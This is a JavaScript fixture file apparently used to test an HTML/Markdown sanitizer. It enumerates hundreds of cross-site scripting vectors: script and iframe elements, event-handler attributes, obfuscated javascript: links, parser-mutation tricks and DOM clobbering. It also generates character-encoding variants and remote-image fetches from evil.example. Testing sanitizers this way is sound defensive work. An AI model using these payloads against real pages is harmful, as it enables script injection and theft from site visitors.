// What people write who want a page to run their code: each way in a form of its own. `HIT` stands for a call that
// tells, `EVIL` for an address on another site. Only what loads or runs by itself or at a touch is here: a plain
// picture from elsewhere is no attack, and what a comment may fetch is tested for comments.

/** Elements that run, load or lead away. */
const ELEMENTS = [
  "<script>HIT</script>",
  "<SCRIPT SRC=//EVIL/a.js></SCRIPT>",
  "<script src=EVIL/b.js>",
  "<script/x src=\"EVIL/c.js\"></script>",
  "<scr<script>ipt>HIT</scr</script>ipt>",
  "<<script>HIT;//<</script>",
  "<script\n>HIT</script\n>",
  "<script>HIT//",
  "<script/random>HIT</script>",
  "<script type=module>HIT</script>",
  "<ScRiPt type='text/javascript' charset=\"x\">HIT</sCrIpT>",
  "<script a=\">\" src=\"EVIL/d.js\"></script>",
  "<script a=`>` src=\"EVIL/e.js\"></script>",
  "</title><script>HIT</script>",
  "</textarea><script>HIT</script>",
  "</style></script><script>HIT</script>",
  "--><script>HIT</script>",
  "]]><script>HIT</script>",
  "\"><script>HIT</script>",
  "'><script>HIT</script>",
  "`><script>HIT</script>",
  "<iframe src=\"javascript:parent.HIT\"></iframe>",
  "<iframe srcdoc=\"<script>parent.HIT</script>\"></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=parent.HIT&gt;'></iframe>",
  "<iframe src=EVIL/frame <",
  "<iframe src=\"data:text/html,<script>parent.HIT</script>\"></iframe>",
  "<frameset><frame src=\"javascript:parent.HIT\"></frameset>",
  "<object data=\"javascript:HIT\"></object>",
  "<object data=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMCk8L3NjcmlwdD4=\"></object>",
  "<object type=text/x-scriptlet data=EVIL/o.html></object>",
  "<embed src=\"javascript:HIT\">",
  "<embed src=EVIL/x.swf allowscriptaccess=always>",
  "<applet code=EVIL/a.class></applet>",
  "<base href=\"EVIL/\">",
  "<base href=\"javascript:HIT;//\">",
  "<meta http-equiv=refresh content=\"0;url=javascript:HIT\">",
  "<meta http-equiv=\"refresh\" content=\"0; URL=EVIL/m\">",
  "<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-",
  "<meta http-equiv=content-type content='text/html; charset=utf-7'>",
  "<link rel=stylesheet href=EVIL/a.css>",
  "<link rel=stylesheet href=\"javascript:HIT\">",
  "<link rel=prefetch href=EVIL/p><link rel=preload as=image href=EVIL/q>",
  "<style>@import 'EVIL/i.css';</style>",
  "<style>body{background:url(EVIL/bg.png)}</style>",
  "<style>*{x:expression(HIT)}</style>",
  "<portal src=EVIL/p></portal><fencedframe src=EVIL/f></fencedframe>",
  "<video><source onerror=\"HIT\" src=x></video>",
  "<audio src=x onerror=HIT></audio>",
  "<bgsound src=EVIL/s.mid><layer src=EVIL/l></layer>",
  "<xml id=x src=EVIL/x.xml></xml><?xml-stylesheet href=\"EVIL/s.xsl\"?>",
];

/** Attributes that run. */
const HANDLERS = [
  "<img src=x onerror=HIT>",
  "<img src=x onerror=\"HIT\"",
  "<img src=x:x onerror=HIT//",
  "<img/src=x/onerror=HIT>",
  "<img\tsrc=x\nonerror\n=\nHIT>",
  "<img src=x onerror&#61;HIT>",
  "<img src=`x` onerror=`HIT`>",
  "<img src=\"x\"onerror=\"HIT\">",
  "<img \"\"\"><script>HIT</script>\">",
  "<img src= onmouseover=\"HIT\">",
  "<img onmouseover=\"HIT\">",
  "<img src=x onerror=&#0000095&#0000095hit(0)>",
  "<img src='x' alt='a' OnErRoR='HIT'>",
  "<img src=x ONERROR =HIT >",
  "<img src=x \u000conerror=HIT>",
  "<img src=x\u00a0onerror=HIT>",
  "<img src=x \u0000onerror=HIT>",
  "<im\u0000g src=x onerror=HIT>",
  "<img src=x onerror\u0000=HIT>",
  "<img lowsrc=EVIL/l dynsrc=EVIL/d srcset=\"x 1x\" onload=HIT onerror=HIT>",
  "<a onclick=HIT href=#>a</a>",
  "<a/onmouseover=HIT>a</a>",
  "<a href=\"#\" onfocus=HIT autofocus tabindex=0>a</a>",
  "<a title='\"><img src=x onerror=HIT>'>a</a>",
  "<b onpointerenter=HIT tabindex=1 onfocus=HIT>b</b>",
  "<b onanimationstart=HIT style=animation-name:x>b</b>",
  "<details open ontoggle=HIT><summary>s</summary>d</details>",
  "<details><summary onclick=HIT>s</summary>d</details>",
  "<input autofocus onfocus=HIT>",
  "<input type=image src=x onerror=HIT>",
  "<select autofocus onfocus=HIT><option>o</select>",
  "<textarea autofocus onfocus=HIT></textarea>",
  "<button onclick=HIT>b</button>",
  "<body onload=HIT>",
  "<body onpageshow=HIT onhashchange=HIT onscroll=HIT>",
  "<body background=\"javascript:HIT\">",
  "<html onmouseover=HIT>",
  "<marquee onstart=HIT>m</marquee>",
  "<table background=\"javascript:HIT\"><td background=EVIL/t onmouseover=HIT>t</table>",
  "<div style=\"background:url(javascript:HIT)\">d</div>",
  "<div style=\"background-image:url(EVIL/b)\">d</div>",
  "<div style=\"width:expression(HIT)\">d</div>",
  "<div style=\"-moz-binding:url(EVIL/x.xml#y);behavior:url(EVIL/y.htc)\">d</div>",
  "<p contenteditable onblur=HIT onfocusin=HIT tabindex=0>p</p>",
  "<p onmouseenter=HIT>p\n\n</p>",
  "<details\nopen\nontoggle\n=\n'HIT'>d",
  "<x onclick=HIT>x</x><x-y tabindex=0 onfocus=HIT>y</x-y>",
  "<dialog open onclose=HIT oncancel=HIT><form method=dialog><button onclick=HIT>b</button></form></dialog>",
  "<div popover id=pop onbeforetoggle=HIT>p</div><button popovertarget=pop>b</button>",
];

/** Addresses that run, as elements and as Markdown. */
const ADDRESSES = [
  "<a href=\"javascript:HIT\">a</a>",
  "<a href=javascript:HIT>a</a>",
  "<a href='JaVaScRiPt:HIT'>a</a>",
  "<a href=\" \u0001 javascript:HIT\">a</a>",
  "<a href=\"java\tscript:HIT\">a</a>",
  "<a href=\"java\nscript:HIT\">a</a>",
  "<a href=\"java&#x0A;script:HIT\">a</a>",
  "<a href=\"java&#x0D;script&#9;:HIT\">a</a>",
  "<a href=\"java&NewLine;script&Tab;&colon;HIT\">a</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;HIT\">a</a>",
  "<a href=\"&#0000106&#0000097&#0000118&#0000097script:HIT\">a</a>",
  "<a href=\"&#x6A&#x61&#x76&#x61script:HIT\">a</a>",
  "<a href=\"&#14; &#x1; javascript:HIT\">a</a>",
  "<a href=\"javascript&#58HIT\">a</a>",
  "<a href=\"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+HIT//'>\">a</a>",
  "<a href=\"javascript://%0aHIT\">a</a>",
  "<a href=\"vbscript:HIT\">a</a>",
  "<a href=\"livescript:HIT\">a</a><a href=\"mocha:HIT\">b</a>",
  "<a href=\"data:text/html,<script>opener.HIT</script>\">a</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
  "<a href=\"blob:javascript:HIT\">a</a><a href=\"view-source:javascript:HIT\">b</a><a href=\"feed:javascript:HIT\">c</a>",
  "<area href=\"javascript:HIT\" shape=default><map name=m><area href=javascript:HIT></map>",
  "<form action=\"javascript:HIT\"><input type=submit></form>",
  "<form id=f></form><button form=f formaction=\"javascript:HIT\">b</button>",
  "<form><button formaction=javascript&colon;HIT>b</button></form>",
  "<isindex action=javascript:HIT type=submit>",
  "<img src=\"javascript:HIT\">",
  "<img src=\"jav&#x09;ascript:HIT\">",
  "<input type=image src=\"javascript:HIT\">",
  "<blockquote cite=\"javascript:HIT\">q</blockquote><q cite=javascript:HIT>q</q>",
  "<video poster=javascript:HIT src=javascript:HIT></video>",
  "<a ping=EVIL/ping href=#>a</a>",
  "[a](javascript:HIT)",
  "[a](JAVASCRIPT:HIT)",
  "[a](<javascript:HIT>)",
  "[a](java&#115;cript:HIT)",
  "[a](javascript&colon;HIT)",
  "[a](&#x6A;avascript:HIT 'x')",
  "[a](\\javascript:HIT)",
  "[a](java\\script:HIT)",
  "[a](<java\tscript:HIT>)",
  "[a](\u0001javascript:HIT)",
  "[a](%6Aavascript:HIT)",
  "[a](vbscript:HIT)",
  "[a](data:text/html,<script>HIT</script>)",
  "[a][r]\n\n[r]: javascript:HIT",
  "[r]\n\n[r]: <javascript:HIT> \"t\"",
  "<javascript:HIT>",
  "<JaVaScRiPt:HIT>",
  "<vbscript:HIT>",
  "[![a](javascript:HIT)](javascript:HIT)",
  "![a](javascript:HIT)",
  "![a](x \"\\\" onerror=HIT \\\"\")",
  "![\" onerror=HIT \"](x)",
  "![<img src=x onerror=HIT>](x)",
  "[a](x \"\\\" onmouseover=HIT x=\\\"\")",
  "[a](x\" onmouseover=\"HIT)",
  "[a](<x\" onmouseover=\"HIT>)",
  "[[javascript:HIT]] [[javascript:HIT|a]]",
  "[[x\" onmouseover=\"HIT|<img src=x onerror=HIT>]]",
  "https://a.example/\"onmouseover=HIT//x",
  "<https://a.example/\"onmouseover=HIT>",
  "<a@b.example\"onmouseover=HIT>",
];

/** What parsers read one way and browsers another. */
const MUTATIONS = [
  "<svg onload=HIT>",
  "<svg/onload=HIT//",
  "<svg><script>HIT</script></svg>",
  "<svg><script xlink:href=EVIL/s.js></script></svg>",
  "<svg><script>&#95;&#95;hit(0)</script></svg>",
  "<svg><a xlink:href=\"javascript:HIT\"><text x=20 y=20>a</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:HIT /><text x=20 y=20>a</text></a></svg>",
  "<svg><set attributeName=onmouseover to=HIT /><rect width=9 height=9 /></svg>",
  "<svg><animate onbegin=HIT attributeName=x dur=1s>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>HIT</script></svg>#x\" /></svg>",
  "<svg><foreignObject><iframe src=javascript:parent.HIT></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=HIT></style></svg>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=HIT>\">",
  "<svg><title><![CDATA[</title><img src=x onerror=HIT>]]></title></svg>",
  "<math><a xlink:href=javascript:HIT>m</a></math>",
  "<math href=\"javascript:HIT\">m</math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=HIT&gt;\">",
  "<math><mi><style><img src=x onerror=HIT></style></mi></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
  "<noscript><p title=\"</noscript><img src=x onerror=HIT>\"></noscript>",
  "<noscript><style></noscript><img src=x onerror=HIT></style></noscript>",
  "<template><img src=x onerror=HIT></template><template shadowrootmode=open><img src=x onerror=HIT></template>",
  "<style><style/><img src=x onerror=HIT></style>",
  "<title><a id=\"</title><img src=x onerror=HIT>\"></title>",
  "<textarea><a title=\"</textarea><img src=x onerror=HIT>\"></textarea>",
  "<xmp><p title=\"</xmp><img src=x onerror=HIT>\"></xmp>",
  "<noembed><a title=\"</noembed><img src=x onerror=HIT>\"></noembed><noframes><a title=\"</noframes><img src=x onerror=HIT>\">",
  "<plaintext><img src=x onerror=HIT>",
  "<select><style></select><img src=x onerror=HIT></style></select>",
  "<table><a title='</table><img src=x onerror=HIT>'></table>",
  "<!--><img src=x onerror=HIT>-->",
  "<!---><img src=x onerror=HIT>-->",
  "<!--a--!><img src=x onerror=HIT>-->",
  "<!-- --\n><img src=x onerror=HIT>",
  "<!--[if gte IE 4]><script>HIT</script><![endif]-->",
  "<!-- <img title=\"--><img src=x onerror=HIT>\"> -->",
  "<![CDATA[><img src=x onerror=HIT>]]>",
  "<?a ><img src=x onerror=HIT>?>",
  "<!a \"><img src=x onerror=HIT>\">",
  "</a title=\"><img src=x onerror=HIT>\">",
  "</><img src=x onerror=HIT>",
  "<a title=\"x` onmouseover=HIT y=`\">a</a>",
  "<a title=`\"><img src=x onerror=HIT>`>a</a>",
  "<a b='>' c=\"><img src=x onerror=HIT>",
  "<a b=\"\n\n<img src=x onerror=HIT>\">",
  "<p title=\"\n\n<script>HIT</script>\n\n\">",
  "<div\n\ntitle='><img src=x onerror=HIT>'>",
  "<div title=\"a\n> <img src=x onerror=HIT>",
  "> <div title=\"\n\n<img src=x onerror=HIT>\">",
  "- <a title=\"\n- b\"><img src=x onerror=HIT>",
  "<b <i onmouseover=HIT>x</i></b",
  "<img src=\"a\" / onerror=HIT alt=\"",
  "<a href=x=\"\" onmouseover=HIT \"\">a</a>",
  "<a =\" onmouseover=HIT \">a</a>",
  "<a '=x onmouseover=HIT '>a</a>",
  "%3Cscript%3EHIT%3C/script%3E",
  "\\x3cscript\\x3eHIT\\x3c/script\\x3e \\u003cscript\\u003eHIT\\u003c/script\\u003e",
  "&lt;script&gt;HIT&lt;/script&gt; &amp;lt;img src=x onerror=HIT&amp;gt;",
  "&#60;script&#62;HIT&#60;/script&#62; &#x3c;img src=x onerror=HIT&#x3e;",
  "+ADw-script+AD4-HIT+ADw-/script+AD4-",
  "\u00bcscript\u00beHIT\u00bc/script\u00be \uff1cscript\uff1eHIT\uff1c/script\uff1e",
  "`<img src=x onerror=HIT>` ``` <img src=x onerror=HIT>",
  "```\"><img src=x onerror=HIT>\n</code></pre><img src=x onerror=HIT>\n```",
  "# a {#x\" onmouseover=\"HIT .y}\n\n## <img src=x onerror=HIT>\n\n## b {onmouseover=HIT}",
  "|<img src=x onerror=HIT>|\n|-|\n|<a href=javascript:HIT>a</a> [b](javascript:HIT)|",
  "a[^\"><img src=x onerror=HIT>]\n\n[^\"><img src=x onerror=HIT>]: <img src=x onerror=HIT>",
  "*[x\"><img src=x onerror=HIT>]: \"><img src=x onerror=HIT>\n\n*[HTML]: \" onmouseover=HIT \"\n\nHTML",
  "::: quote by=\"<img src=x onerror=HIT>\" role='\"><script>HIT</script>'\n<img src=x onerror=HIT>\n:::",
  "::: button link=\"javascript:HIT\"\na\n:::",
  "::: button link=\"java&#115;cript:HIT\" text=\"a\"\na\n:::",
  "::: figure image=\"javascript:HIT\" alt=\"\\\" onerror=HIT\" caption=\"<script>HIT</script>\"\n:::",
  "::: video src=\"javascript:HIT\" link=\"javascript:HIT\" title=\"<img src=x onerror=HIT>\"\na\n:::",
  "::: details summary=\"</summary><img src=x onerror=HIT>\" title=\"</summary><img src=x onerror=HIT>\"\na\n:::",
];

/** What takes the place of the names that a page's own code or its anchors use. */
const NAMES = [
  "<a id=getElementById name=querySelector>a</a><img name=body><form name=documentElement><input name=attributes></form>",
  "<img name=getElementById src=x><img id=currentScript name=currentScript src=x>",
  "<form id=__hit><input name=toString></form><a id=main>a</a><a id=location href=javascript:HIT>a</a>",
];

/** All of them, numbered: what tells says by which one it was called. */
export const vectors = [...ELEMENTS, ...HANDLERS, ...ADDRESSES, ...MUTATIONS, ...NAMES].map((text, at) =>
  text.replaceAll("HIT", `__hit(${at})`).replaceAll("//EVIL", `//evil.example/${at}`).replaceAll("EVIL", `//evil.example/${at}`),
);

/** What only a comment may not do: fetch from elsewhere, by any way. */
export const fetches = [
  "![a](https://evil.example/i.png)",
  "<img src=https://evil.example/i.png>",
  "<img src=//evil.example/i.png alt=a>",
  "<img src='/\\evil.example/i.png'>",
  "<img src='ht&#116;ps://evil.example/i.png'>",
  "<img src='https:&#9;//evil.example/i.png'>",
  "<video src=https://evil.example/v.mp4></video><audio src=//evil.example/a.mp3 autoplay>",
  "<img srcset='https://evil.example/i.png 1x' src=x>",
  "<picture><source srcset=https://evil.example/i.png><img src=x></picture>",
  "![a][r]\n\n[r]: //evil.example/i.png",
  "<input type=image src=https://evil.example/i.png>",
];

/** The numbers from one to another, both included. */
const range = (first, last) => Array.from({ length: last - first + 1 }, (_, at) => first + at);

/** Characters that some step between an author and a browser's scripts drops, folds or reads over, and some that look so. */
const ODD = [
  ...range(0, 0x20), ...range(0x7f, 0xa0), 0xad, 0x34f, 0x61c, 0x180e, ...range(0x200b, 0x200f), ...range(0x2028, 0x202e),
  ...range(0x2060, 0x2069), 0x3000, 0xfe0f, 0xfeff, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x1ffff, 0x10ffff,
  0xe0001, 0xe0061, 0x301, 0x37e, 0x130, 0x131, 0x17f, 0x212a, 0xff1a, 0xff4a, 0xfe55, 0x2f, 0x5c,
];

/** Characters that have a name in HTML. */
const NAMED = {
  0x9: ["Tab"], 0xa: ["NewLine"], 0xa0: ["nbsp", "NonBreakingSpace"], 0xad: ["shy"], 0x200b: ["ZeroWidthSpace", "NegativeThinSpace"],
  0x200c: ["zwnj"], 0x200d: ["zwj"], 0x200e: ["lrm"], 0x200f: ["rlm"], 0x2060: ["NoBreak"], 0x2061: ["af"], 0x2062: ["it"],
  0x2063: ["ic"], 0x2f: ["sol"], 0x5c: ["bsol"],
};

/** A character as it may be written: as it is, by number, by name, and as bytes of an address. */
function forms(code) {
  const bytes = [...new TextEncoder().encode(String.fromCodePoint(code))].map((byte) => `%${byte.toString(16).padStart(2, "0")}`);
  const named = (NAMED[code] ?? []).map((name) => `&${name};`);
  return [String.fromCodePoint(code), `&#${code};`, `&#x${code.toString(16)};`, bytes.join(""), ...named];
}

/** For each of these characters, addresses that run code for whoever drops it, in each way to write a link. */
export const schemes = ODD.map((code, at) => {
  const script = `javascript:__hit(${10_000 + at})`;
  const addresses = forms(code).flatMap((form) => [0, 4, 10, 11].map((place) => script.slice(0, place) + form + script.slice(place)));
  const links = (address) => `[a](${address}) [b](<${address}>) <${address}> [[${address}]] <a href="${address}">c</a>`;
  return { addresses, text: addresses.map(links).join("\n\n") };
});

/** For each of them, pictures that are fetched from elsewhere by whoever drops it: what a comment may not do. */
export const pictures = ODD.map((code) => {
  const evil = "//evil.example/i.png";
  const around = (form) => [form + evil, `/${form}${evil.slice(1)}`, `ht${form}tps:${evil}`, `https${form}:${evil}`, `https:${form}${evil}`];
  const show = (address) => `![a](<${address}>) <img src="${address}" alt=b>`;
  return forms(code).flatMap(around).map(show).join("\n\n");
});
